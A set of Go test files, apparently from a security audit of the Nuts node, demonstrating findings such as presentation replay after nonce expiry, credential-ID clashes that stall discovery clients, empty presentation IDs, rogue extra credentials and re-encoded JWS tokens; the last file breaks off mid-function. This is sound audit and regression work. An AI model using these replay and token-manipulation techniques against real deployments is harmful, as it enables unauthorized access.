	require.NoError(t, json.Unmarshal([]byte(`{
		"@context": ["https://www.w3.org/2018/credentials/v1", "https://nuts.nl/credentials/v1"],
		"id": "`+holderDID.String()+`#c1",
		"type": ["VerifiableCredential", "NutsEmployeeCredential"],
		"issuer": "`+holderDID.String()+`",
		"issuanceDate": "2024-01-01T00:00:00Z",
		"credentialSubject": {"id": "`+holderDID.String()+`", "roleName": "Administrator"}
	}`), &credential))

	// The client creates a presentation that is valid for exactly the allowed 5 seconds. Its clock is 4.5 seconds ahead
	// of ours, which is within the clock skew the verifier allows (5 seconds).
	wallet := holder.NewMemoryWallet(jsonldManager.DocumentLoader(), keyResolver, cryptoNuts.MemoryJWTSigner{Key: privateJWK}, nil)
	t0 := time.Now()
	created := t0.Add(4500 * time.Millisecond)
	expires := created.Add(s2sMaxPresentationValidity)
	nonce := cryptoNuts.GenerateNonce()
	holderURI := ssi.MustParseURI(holderDID.String())
	presentation, err := wallet.BuildPresentation(audit.TestContext(), []vc.VerifiableCredential{credential}, holder.PresentationOptions{
		Holder: &holderURI,
		Format: holder.JSONLDPresentationFormat,
		ProofOptions: proof.ProofOptions{
			Created:      created,
			Expires:      &expires,
			Domain:       &issuerClientID,
			Nonce:        &nonce,
			ProofPurpose: proof.AuthenticationProofPurpose,
		},
	}, &holderDID, false)
	require.NoError(t, err)

	requestCtx := context.WithValue(context.Background(), httpRequestContextKey{}, &http.Request{Header: http.Header{}})
	requestToken := func() (string, error) {
		resp, err := ctx.client.handleS2SAccessTokenRequest(requestCtx, clientID, issuerSubjectID, requestedScope, submission, presentation.Raw())
		if err != nil {
			return "", err
		}
		return TokenResponse(resp.(HandleTokenRequest200JSONResponse)).AccessToken, nil
	}

	// 1. regular use
	token1, err := requestToken()
	require.NoError(t, err, "sanity check: first use of the presentation must succeed")
	require.NotEmpty(t, token1)

	// 2. immediate replay is refused: the nonce is known
	_, err = requestToken()
	require.EqualError(t, err, "invalid_request - presentation nonce has already been used", "sanity check")

	// 3. somebody who got hold of the presentation (proxy, log file, ...) replays it when the nonce record is gone.
	// Note that the failed attempt of step 2 stored the nonce again, so count from now.
	time.Sleep(s2sMaxPresentationValidity + s2sMaxClockSkew + 200*time.Millisecond)
	require.True(t, time.Now().Before(expires.Add(s2sMaxClockSkew)), "test took too long, presentation has expired for real")

	token2, err := requestToken()

	if err == nil {
		t.Fatalf("REPLAY ACCEPTED: the presentation with nonce %q was exchanged for an access token a second time, %s after its first use (tokens: %s.. and %s..)",
			nonce, time.Since(t0).Round(100*time.Millisecond), token1[:8], token2[:8])
	}
	t.Logf("replay refused: %v", err)
}
