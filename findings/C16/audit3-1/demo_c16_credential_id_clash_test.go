package discovery

import (
	"context"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/discovery/api/server/client"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_C16_CredentialIDClashStallsClient shows that a single registration, which the Discovery Server rightfully accepts,
// stops every client that already knows a (different) credential with the same ID from ever synchronizing the service again.
//
//   - Alice is registered on service "other" (hosted by some other server). Her presentation (and the ID of her credential) is public.
//   - Bob registers on service "usecase_v1". His presentation fulfils the Presentation Definition with his credential from the authority
//     and a self-attested registration credential. He chooses the ID of the self-attested credential himself: he copies the ID of Alice's credential.
//     The server of "usecase_v1" has never seen Alice's credential, so it accepts and lists Bob's presentation.
//   - After Bob, Alice registers on "usecase_v1" as well (with another credential).
//   - A client that follows both services can't store Bob's presentation ("credential with this ID already exists with different contents"),
//     aborts the update and never gets past Bob's entry: it never receives Alice's registration (or any later one), no matter how often it polls.
func TestDemo_C16_CredentialIDClashStallsClient(t *testing.T) {
	ctx := context.Background()

	// The Discovery Server of service "usecase_v1", with its own database
	serverEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, serverEngine.Start())
	server, serverMocks := setupModule(t, serverEngine, func(module *Module) {
		module.config.Client.RefreshInterval = 0
	})
	// signatures are all valid (Bob's self-attested credential is covered by the signature of his presentation)
	serverMocks.verifier.EXPECT().VerifyVP(gomock.Any(), true, true, nil).AnyTimes()

	// The client node, with its own database. It follows service "other" and "usecase_v1".
	clientEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, clientEngine.Start())
	clientStore := setupStore(t, clientEngine.GetSQLDatabase())
	definitions := testDefinitions()
	httpClient := client.NewMockHTTPClient(gomock.NewController(t))
	updater := newClientUpdater(definitions, clientStore, alwaysOkVerifier, httpClient)

	// Alice's registration on service "other" (hosted elsewhere), known to the client
	vpAliceOnOther := createPresentationCustom(aliceDID, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
		claims[jwt.AudienceKey] = []string{"other"}
	}, vcAlice)
	httpClient.EXPECT().Get(gomock.Any(), definitions["other"].Endpoint, 0).
		Return(map[string]vc.VerifiablePresentation{"1": vpAliceOnOther}, "other-seed", 1, nil)
	require.NoError(t, updater.updateService(ctx, definitions["other"]))

	// The client retrieves "usecase_v1" from the real server
	httpClient.EXPECT().Get(gomock.Any(), definitions[testServiceID].Endpoint, gomock.Any()).
		DoAndReturn(func(ctx context.Context, _ string, timestamp int) (map[string]vc.VerifiablePresentation, string, int, error) {
			return server.Get(ctx, testServiceID, timestamp)
		}).AnyTimes()

	// Bob registers on "usecase_v1": the ID of his self-attested credential is a copy of the ID of Alice's credential
	bobRegistrationCredential := createHolderCredential(bobDID, defaultRegistrationParams(bobSubject))
	bobRegistrationCredential.ID = vcAlice.ID
	vpBobPoisoned := createPresentationCustom(bobDID, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
		claims[jwt.AudienceKey] = []string{testServiceID}
	}, vcBob, bobRegistrationCredential)
	require.NoError(t, server.Register(ctx, testServiceID, vpBobPoisoned), "server accepts Bob's registration")

	// Then Alice registers on "usecase_v1" (with another credential than the one she uses on "other")
	vcAlice2 := createCredential(authorityDID, aliceDID, nil, nil)
	vpAliceOnUsecase := createPresentationCustom(aliceDID, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
		claims[jwt.AudienceKey] = []string{testServiceID}
	}, vcAlice2, createHolderCredential(aliceDID, defaultRegistrationParams(aliceSubject)))
	require.NoError(t, server.Register(ctx, testServiceID, vpAliceOnUsecase), "server accepts Alice's registration")

	// The server lists both
	serverEntries, _, serverTimestamp, err := server.Get(ctx, testServiceID, 0)
	require.NoError(t, err)
	require.Len(t, serverEntries, 2)
	require.Equal(t, 2, serverTimestamp)

	// The client polls, over and over again
	var lastErr error
	for i := 0; i < 5; i++ {
		lastErr = updater.updateService(ctx, definitions[testServiceID])
	}

	// PROPERTY: "A client that repeatedly asks for everything after its last timestamp ends up holding exactly the server's live set"
	clientTimestamp, err := clientStore.getTimestamp(testServiceID)
	require.NoError(t, err)
	aliceKnown, err := clientStore.exists(testServiceID, aliceDID.String(), vpAliceOnUsecase.ID.String())
	require.NoError(t, err)
	assert.NoError(t, lastErr, "client can't process the list of the server")
	assert.True(t, aliceKnown, "client never receives Alice's registration, which was registered after Bob's")
	assert.Equal(t, serverTimestamp, clientTimestamp, "client is stuck before Bob's entry")
}
