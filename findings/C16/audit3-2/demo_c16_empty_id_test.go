package discovery

import (
	"context"
	"sort"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/discovery/api/server/client"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_C16_EmptyPresentationID shows that a presentation with an empty ID (JWT claim "jti": "") passes the "presentation does not have an ID" check
// of the Discovery Server and gets listed. Entries are identified by (service, signer, presentation ID): the existence check
// (sqlStore.exists, a gorm struct condition) silently drops the empty ID from the WHERE clause, so "does this presentation exist"
// becomes "does this signer have any presentation". A client that still holds an older (expired, not yet pruned) entry of the signer
// therefore believes it already has the new entry, skips it, and never retrieves it again once its timestamp has moved on.
func TestDemo_C16_EmptyPresentationID(t *testing.T) {
	ctx := context.Background()

	// The Discovery Server, with its own database
	serverEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, serverEngine.Start())
	server, serverMocks := setupModule(t, serverEngine, func(module *Module) {
		module.config.Client.RefreshInterval = 0
	})
	serverMocks.verifier.EXPECT().VerifyVP(gomock.Any(), true, true, nil).AnyTimes()

	// The client node, with its own database, retrieves the list from the real server
	clientEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, clientEngine.Start())
	clientStore := setupStore(t, clientEngine.GetSQLDatabase())
	definitions := testDefinitions()
	httpClient := client.NewMockHTTPClient(gomock.NewController(t))
	updater := newClientUpdater(definitions, clientStore, alwaysOkVerifier, httpClient)
	httpClient.EXPECT().Get(gomock.Any(), definitions[testServiceID].Endpoint, gomock.Any()).
		DoAndReturn(func(ctx context.Context, _ string, timestamp int) (map[string]vc.VerifiablePresentation, string, int, error) {
			return server.Get(ctx, testServiceID, timestamp)
		}).AnyTimes()

	// 1. Alice registers a short-lived presentation, the client retrieves it.
	vpAliceShortLived := createPresentationCustom(aliceDID, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
		claims[jwt.AudienceKey] = []string{testServiceID}
		claims[jwt.ExpirationKey] = time.Now().Add(2 * time.Second)
	}, vcAlice, aliceDiscoveryCredential)
	require.NoError(t, server.Register(ctx, testServiceID, vpAliceShortLived))
	require.NoError(t, updater.updateService(ctx, definitions[testServiceID]))

	// 2. It expires. Bob registers (upon which the server prunes Alice's expired presentation).
	time.Sleep(3 * time.Second)
	bobPresentation := func() vc.VerifiablePresentation {
		return createPresentationCustom(bobDID, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
			claims[jwt.AudienceKey] = []string{testServiceID}
		}, vcBob, createHolderCredential(bobDID, defaultRegistrationParams(bobSubject)))
	}
	require.NoError(t, server.Register(ctx, testServiceID, bobPresentation()))

	// 3. Alice registers a presentation with an empty ID.
	vpAliceEmptyID := createPresentationCustom(aliceDID, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
		claims[jwt.AudienceKey] = []string{testServiceID}
		claims[jwt.JwtIDKey] = ""
	}, vcAlice, aliceDiscoveryCredential)
	require.NotNil(t, vpAliceEmptyID.ID)
	require.Empty(t, vpAliceEmptyID.ID.String())
	err := server.Register(ctx, testServiceID, vpAliceEmptyID)

	// PROPERTY: defective registrations are refused (the module has a check for it: errPresentationWithoutID)
	assert.ErrorIs(t, err, ErrInvalidPresentation, "server lists a presentation without ID")
	if err != nil {
		return
	}

	// Consequence: the client does not converge to the server's list.
	// 4. Bob refreshes his registration, the client polls (a few times).
	require.NoError(t, server.Register(ctx, testServiceID, bobPresentation()))
	for i := 0; i < 3; i++ {
		require.NoError(t, updater.updateService(ctx, definitions[testServiceID]))
	}

	// PROPERTY: "A client that repeatedly asks for everything after its last timestamp ends up holding exactly the server's live set"
	assert.Equal(t, listOf(t, server.store), listOf(t, clientStore), "client's copy differs from the server's list")
}

// listOf returns the (sorted) presentations in the store
func listOf(t *testing.T, store *sqlStore) []string {
	presentations, _, _, err := store.get(testServiceID, 0)
	require.NoError(t, err)
	result := make([]string, 0)
	for _, presentation := range presentations {
		signer := "alice"
		if presentation.Holder.String() == bobDID.String() {
			signer = "bob"
		}
		result = append(result, signer+" (id="+presentation.ID.String()+")")
	}
	sort.Strings(result)
	return result
}
