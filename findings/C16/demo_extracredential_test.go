package discovery

import (
	"context"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/core/to"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/vcr/pe"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_RegistrationWithCredentialThatDoesNotFulfilDefinition shows that the server lists a presentation that contains
// a credential which does not fulfil (any input descriptor of) the service's Presentation Definition.
//
// validateRegistration() only compares len(PresentationDefinition.Match(..)) to len(presentation.VerifiableCredential).
// Match() (without submission requirements) returns one credential PER INPUT DESCRIPTOR. If one credential
// satisfies 2 input descriptors it is returned twice, which makes room for 1 arbitrary extra credential.
func TestDemo_RegistrationWithCredentialThatDoesNotFulfilDefinition(t *testing.T) {
	storageEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, storageEngine.Start())
	ctx := context.Background()

	m, testContext := setupModule(t, storageEngine, func(module *Module) {
		module.config.Client.RefreshInterval = 0
		// The service requires:
		// 1. a credential issued by the authority, and
		// 2. a credential that states the name of the person.
		// In practice, these are satisfied by the same credential (like vcAlice).
		def := module.allDefinitions[testServiceID]
		def.PresentationDefinition.InputDescriptors = []*pe.InputDescriptor{
			{
				Id: "1",
				Constraints: &pe.Constraints{
					Fields: []pe.Field{
						{
							Id:     to.Ptr("issuer_field"),
							Path:   []string{"$.issuer"},
							Filter: &pe.Filter{Type: "string", Const: to.Ptr(authorityDID.String())},
						},
					},
				},
			},
			{
				Id: "2",
				Constraints: &pe.Constraints{
					Fields: []pe.Field{
						{
							Id:     to.Ptr("given_name"),
							Path:   []string{"$.credentialSubject.person.givenName", "$.credentialSubject[0].person.givenName"},
							Filter: &pe.Filter{Type: "string"},
						},
					},
				},
			},
		}
		module.allDefinitions[testServiceID] = def
		module.serverDefinitions[testServiceID] = def
	})
	// signatures are OK (the extra credential is properly self-issued by Alice), this is not about cryptography
	testContext.verifier.EXPECT().VerifyVP(gomock.Any(), true, true, nil).AnyTimes()
	definition := m.allDefinitions[testServiceID].PresentationDefinition

	// Alice issues a credential to herself, in which she claims to be a hospital.
	// It is not issued by the authority (descriptor 1) and does not contain person.givenName (descriptor 2):
	rogueCredential := createCredential(aliceDID, aliceDID, map[string]interface{}{
		"organization": map[string]interface{}{
			"name": "Saint Elsewhere Hospital",
		},
	}, nil)
	_, _, err := definition.Match([]vc.VerifiableCredential{rogueCredential})
	require.ErrorIs(t, err, pe.ErrNoCredentials, "test setup: the rogue credential does not fulfil the Presentation Definition")
	_, _, err = definition.Match([]vc.VerifiableCredential{vcAlice})
	require.NoError(t, err, "test setup: Alice's credential (on its own) fulfils the Presentation Definition")

	presentation := createPresentationCustom(aliceDID, func(claims map[string]interface{}, vp *vc.VerifiablePresentation) {
		claims[jwt.AudienceKey] = []string{testServiceID}
	}, vcAlice, rogueCredential)

	err = m.Register(ctx, testServiceID, presentation)

	// "...whose credentials all and only fulfil the service's presentation definition"
	assert.ErrorIs(t, err, ErrInvalidPresentation, "server listed a presentation that contains a credential that does not fulfil the Presentation Definition")

	// Impact: the rogue credential is indexed, so clients find Alice when they look for a hospital
	results, err := m.Search(testServiceID, map[string]string{"credentialSubject.organization.name": "Saint Elsewhere Hospital"})
	require.NoError(t, err)
	assert.Equal(t, 0, len(results), "Alice is found through a self-issued credential the service definition does not allow")
}
