package discovery

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"sort"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// demoLoopbackClient is the "HTTP hop" between a Discovery Client and a Discovery Server:
// it hands the request directly to the server's (real) SQL store, which is exactly what
// Module.Get() -> api.GetPresentations -> DefaultHTTPClient.Get do for a service the node hosts.
type demoLoopbackClient struct {
	server func() *sqlStore
}

func (d demoLoopbackClient) Register(_ context.Context, _ string, _ vc.VerifiablePresentation) error {
	panic("not used")
}

func (d demoLoopbackClient) Get(_ context.Context, _ string, timestamp int) (map[string]vc.VerifiablePresentation, string, int, error) {
	return d.server().get(testServiceID, timestamp)
}

func demoPresentation(subject did.DID) vc.VerifiablePresentation {
	if keyPairs[subject.String()] == nil {
		keyPairs[subject.String()], _ = ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	}
	credential := createCredential(authorityDID, subject, map[string]interface{}{
		"person": map[string]interface{}{"givenName": subject.ID},
	}, nil)
	return createPresentationCustom(subject, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
		claims[jwt.AudienceKey] = []string{testServiceID}
	}, credential)
}

func demoPresentationIDs(t *testing.T, presentations []vc.VerifiablePresentation) []string {
	var result []string
	for _, presentation := range presentations {
		result = append(result, presentation.ID.String())
	}
	sort.Strings(result)
	return result
}

// TestDemo_ClientDoesNotStartOverOnSeedChange shows that a client that notices a changed seed (= the server was reset)
// wipes its local copy, but then still applies the response that was calculated for its OLD timestamp
// and moves its timestamp to the NEW server's latest timestamp.
// Everything the new server registered at a timestamp <= the client's old timestamp is never retrieved.
func TestDemo_ClientDoesNotStartOverOnSeedChange(t *testing.T) {
	ctx := context.Background()
	serverEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, serverEngine.Start())
	clientEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, clientEngine.Start())

	serverStore := setupStore(t, serverEngine.GetSQLDatabase())
	clientStore := setupStore(t, clientEngine.GetSQLDatabase())
	service := testDefinitions()[testServiceID]
	updater := newClientUpdater(testDefinitions(), clientStore, alwaysOkVerifier, demoLoopbackClient{server: func() *sqlStore {
		return serverStore
	}})

	carolDID := did.MustParseDID("did:example:carol")

	// 1. Alice and Bob register at the server, the client synchronizes: it is now at timestamp 2
	_, err := serverStore.add(testServiceID, demoPresentation(aliceDID), "", 0)
	require.NoError(t, err)
	_, err = serverStore.add(testServiceID, demoPresentation(bobDID), "", 0)
	require.NoError(t, err)
	require.NoError(t, updater.updateService(ctx, service))
	clientTimestamp, err := clientStore.getTimestamp(testServiceID)
	require.NoError(t, err)
	require.Equal(t, 2, clientTimestamp)
	_, oldSeed, _, _ := serverStore.get(testServiceID, 0)

	// 2. The server is reset (loses its database): it starts with a new seed and at timestamp 0.
	//    Alice, Bob and Carol register at the new server.
	serverStore = setupStore(t, serverEngine.GetSQLDatabase())
	for _, subject := range []did.DID{aliceDID, bobDID, carolDID} {
		_, err = serverStore.add(testServiceID, demoPresentation(subject), "", 0)
		require.NoError(t, err)
	}
	serverEntries, newSeed, serverTimestamp, err := serverStore.get(testServiceID, 0)
	require.NoError(t, err)
	require.NotEqual(t, oldSeed, newSeed, "server reset must yield a new seed")
	require.Equal(t, 3, serverTimestamp)
	require.Len(t, serverEntries, 3)
	var serverLiveSet []vc.VerifiablePresentation
	for _, entry := range serverEntries {
		serverLiveSet = append(serverLiveSet, entry)
	}

	// 3. The client keeps polling "everything after my last timestamp"
	for i := 0; i < 5; i++ {
		require.NoError(t, updater.updateService(ctx, service))
	}

	// 4. The client must now hold exactly the server's live set
	clientLiveSet, err := clientStore.search(testServiceID, map[string]string{}, false)
	require.NoError(t, err)
	assert.Equal(t, demoPresentationIDs(t, serverLiveSet), demoPresentationIDs(t, clientLiveSet),
		"client did not start over after the seed change: it misses the entries the new server registered at a timestamp <= the client's old timestamp")
}
