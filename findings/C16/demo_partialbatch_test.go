package discovery

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"errors"
	"sort"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gorm.io/gorm"
)

// demoDirectClient is the "HTTP hop" between a Discovery Client and a Discovery Server:
// it hands the request directly to the server's (real) SQL store, which is what
// DefaultHTTPClient.Get -> api.GetPresentations -> Module.Get() do for a service the node hosts.
type demoDirectClient struct {
	server *sqlStore
}

func (d demoDirectClient) Register(_ context.Context, _ string, _ vc.VerifiablePresentation) error {
	panic("not used")
}

func (d demoDirectClient) Get(_ context.Context, _ string, timestamp int) (map[string]vc.VerifiablePresentation, string, int, error) {
	return d.server.get(testServiceID, timestamp)
}

func demoSubjectPresentation(subject did.DID) vc.VerifiablePresentation {
	if keyPairs[subject.String()] == nil {
		keyPairs[subject.String()], _ = ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	}
	return createPresentationCustom(subject, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
		claims[jwt.AudienceKey] = []string{testServiceID}
	}, createCredential(authorityDID, subject, map[string]interface{}{
		"person": map[string]interface{}{"givenName": subject.ID},
	}, nil))
}

// TestDemo_InterruptedUpdateLosesEntries shows that a client permanently misses entries of the server's list
// when processing a response is interrupted (database error, crash/kill of the node, ...) after the first entry of the response was stored:
// updateService() stores the server's LATEST timestamp together with the FIRST entry it stores.
func TestDemo_InterruptedUpdateLosesEntries(t *testing.T) {
	ctx := context.Background()
	serverEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, serverEngine.Start())
	clientEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, clientEngine.Start())
	serverStore := setupStore(t, serverEngine.GetSQLDatabase())
	clientStore := setupStore(t, clientEngine.GetSQLDatabase())
	service := testDefinitions()[testServiceID]
	updater := newClientUpdater(testDefinitions(), clientStore, alwaysOkVerifier, demoDirectClient{server: serverStore})

	// 4 subjects register at the server
	var expected []string
	for _, subject := range []string{"did:example:alice", "did:example:bob", "did:example:carol", "did:example:dave"} {
		presentation := demoSubjectPresentation(did.MustParseDID(subject))
		_, err := serverStore.add(testServiceID, presentation, "", 0)
		require.NoError(t, err)
		expected = append(expected, presentation.ID.String())
	}
	sort.Strings(expected)

	// The client's database has a hiccup (connection lost, disk full, deadlock victim, node killed, ...):
	// storing the second presentation (whichever that is) fails. This happens once, after that the database is fine again.
	numInserts := 0
	require.NoError(t, clientEngine.GetSQLDatabase().Callback().Create().Before("gorm:create").Register("demo:hiccup", func(tx *gorm.DB) {
		if tx.Statement.Table == (presentationRecord{}).TableName() {
			numInserts++
			if numInserts == 2 {
				_ = tx.AddError(errors.New("connection lost"))
			}
		}
	}))

	// first poll is interrupted
	err := updater.updateService(ctx, service)
	require.ErrorContains(t, err, "connection lost")
	// then, the client keeps asking for everything after its last timestamp
	for i := 0; i < 5; i++ {
		require.NoError(t, updater.updateService(ctx, service))
	}

	// The client must now hold exactly the server's live set
	clientEntries, err := clientStore.search(testServiceID, map[string]string{}, false)
	require.NoError(t, err)
	var actual []string
	for _, entry := range clientEntries {
		actual = append(actual, entry.ID.String())
	}
	sort.Strings(actual)
	assert.Equal(t, expected, actual, "client does not converge to the server's list after an interrupted update")
}
