package discovery

import (
	"context"
	"sort"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/discovery/api/server/client"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_C16_PresentationIDReuse shows that the client decides "I already have this entry" on the presentation ID alone.
// The server frees a presentation ID as soon as the entry is superseded (or retracted), so the signer can register another presentation
// with the same ID later on. A client that still holds the first presentation (it never saw the one in between, since superseded entries
// are not listed any more) skips the new one: it keeps the stale presentation, while the server (and clients that polled at another moment) list the new one.
func TestDemo_C16_PresentationIDReuse(t *testing.T) {
	ctx := context.Background()

	// The Discovery Server, with its own database
	serverEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, serverEngine.Start())
	server, serverMocks := setupModule(t, serverEngine, func(module *Module) {
		module.config.Client.RefreshInterval = 0
	})
	serverMocks.verifier.EXPECT().VerifyVP(gomock.Any(), true, true, nil).AnyTimes()

	// The client node, with its own database, retrieves the list from the real server
	clientEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, clientEngine.Start())
	clientStore := setupStore(t, clientEngine.GetSQLDatabase())
	definitions := testDefinitions()
	httpClient := client.NewMockHTTPClient(gomock.NewController(t))
	updater := newClientUpdater(definitions, clientStore, alwaysOkVerifier, httpClient)
	httpClient.EXPECT().Get(gomock.Any(), definitions[testServiceID].Endpoint, gomock.Any()).
		DoAndReturn(func(ctx context.Context, _ string, timestamp int) (map[string]vc.VerifiablePresentation, string, int, error) {
			return server.Get(ctx, testServiceID, timestamp)
		}).AnyTimes()

	alicePresentation := func(id string, authServerURL string) vc.VerifiablePresentation {
		return createPresentationCustom(aliceDID, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
			claims[jwt.AudienceKey] = []string{testServiceID}
			claims[jwt.JwtIDKey] = id
		}, vcAlice, createHolderCredential(aliceDID, map[string]interface{}{"authServerURL": authServerURL}))
	}

	// 1. Alice registers presentation "did:example:alice#1", the client retrieves it
	require.NoError(t, server.Register(ctx, testServiceID, alicePresentation("did:example:alice#1", "https://example.com/oauth2/alice")))
	require.NoError(t, updater.updateService(ctx, definitions[testServiceID]))
	// 2. Alice refreshes her registration with presentation "did:example:alice#2"
	require.NoError(t, server.Register(ctx, testServiceID, alicePresentation("did:example:alice#2", "https://example.com/oauth2/alice")))
	// 3. Alice registers another presentation (other contents) with ID "did:example:alice#1": accepted, since that ID is not in use any more
	require.NoError(t, server.Register(ctx, testServiceID, alicePresentation("did:example:alice#1", "https://elsewhere.example.com/oauth2/alice")))
	// 4. The client polls (repeatedly)
	for i := 0; i < 3; i++ {
		require.NoError(t, updater.updateService(ctx, definitions[testServiceID]))
	}

	// PROPERTY: "A client that repeatedly asks for everything after its last timestamp ends up holding exactly the server's live set"
	assert.Equal(t, rawListOf(t, server.store), rawListOf(t, clientStore), "client holds another presentation than the server lists")
	serverTimestamp, _ := server.store.getTimestamp(testServiceID)
	clientTimestamp, _ := clientStore.getTimestamp(testServiceID)
	assert.Equal(t, serverTimestamp, clientTimestamp)
}

// rawListOf returns the (sorted) presentations in the store
func rawListOf(t *testing.T, store *sqlStore) []string {
	presentations, _, _, err := store.get(testServiceID, 0)
	require.NoError(t, err)
	result := make([]string, 0)
	for _, presentation := range presentations {
		result = append(result, presentation.Raw())
	}
	sort.Strings(result)
	return result
}
