package tokenV2

import (
	"crypto/elliptic"
	"encoding/base64"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/labstack/echo/v4"
	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/stretchr/testify/require"
)

func demoC17Call(t *testing.T, authorizedKey []byte, bearer string) (error, int) {
	middleware, err := New(nil, validHostname, authorizedKey)
	require.NoError(t, err)
	request, err := http.NewRequest("GET", "/", nil)
	require.NoError(t, err)
	request.Header.Set("Authorization", "Bearer "+bearer)
	recorder := httptest.NewRecorder()
	err = middleware.Handler(statusOKHandler)(echo.New().NewContext(request, recorder))
	return err, recorder.Code
}

// Property: an internal-API bearer token is accepted only if its signature verifies "over the exact bytes received";
// this must hold "for all tokens obtained from a valid one by ... re-encoding the compact form".
func TestDemoC17_APIToken_ReencodedCompactForm(t *testing.T) {
	_, serializer, authorizedKey := generateECDSATestKey(t, elliptic.P256(), jwa.ES256)
	serialized, err := serializer.Serialize(validJWT(t))
	require.NoError(t, err)
	valid := string(serialized)
	err, _ = demoC17Call(t, authorizedKey, valid)
	require.NoError(t, err, "sanity check: the canonical token is valid")

	parts := strings.Split(valid, ".")
	sig, err := base64.RawURLEncoding.DecodeString(parts[2])
	require.NoError(t, err)
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	last := parts[2][len(parts[2])-1]
	variants := map[string]string{
		"padded signature":            parts[0] + "." + parts[1] + "." + base64.URLEncoding.EncodeToString(sig),
		"unused trailing bits in sig": parts[0] + "." + parts[1] + "." + parts[2][:len(parts[2])-1] + string(alphabet[strings.IndexByte(alphabet, last)^1]),
	}
	for name, reencoded := range variants {
		t.Run(name, func(t *testing.T) {
			require.NotEqual(t, valid, reencoded)
			if err, _ := demoC17Call(t, authorizedKey, reencoded); err == nil {
				t.Errorf("access granted for a token whose bytes are not the bytes that were signed: %q", reencoded)
			}
		})
	}
}
