package crypto

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/base64"
	"strings"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/stretchr/testify/require"
)

// demoReencodings returns tokens that differ from the given (valid, canonical) compact JWS in the received bytes only:
// every segment still decodes to the same header, payload and signature.
func demoReencodings(t *testing.T, valid string) map[string]string {
	parts := strings.Split(valid, ".")
	require.Len(t, parts, 3)
	reencode := func(segment string, enc *base64.Encoding) string {
		decoded, err := base64.RawURLEncoding.DecodeString(segment)
		require.NoError(t, err)
		return enc.EncodeToString(decoded)
	}
	join := func(p ...string) string { return strings.Join(p, ".") }
	// the last character of a segment whose length is not a multiple of 4 has unused trailing bits: flip the lowest one
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	sig := parts[2]
	require.NotZero(t, len(sig)%4)
	flipped := sig[:len(sig)-1] + string(alphabet[strings.IndexByte(alphabet, sig[len(sig)-1])^1])

	result := map[string]string{
		"padded header":               join(reencode(parts[0], base64.URLEncoding), parts[1], parts[2]),
		"padded payload":              join(parts[0], reencode(parts[1], base64.URLEncoding), parts[2]),
		"padded signature":            join(parts[0], parts[1], reencode(parts[2], base64.URLEncoding)),
		"line break in payload":       join(parts[0], parts[1][:4]+"\n"+parts[1][4:], parts[2]),
		"unused trailing bits in sig": join(parts[0], parts[1], flipped),
	}
	result["payload in standard (non-URL) alphabet"] = join(parts[0], reencode(parts[1], base64.RawStdEncoding), parts[2])
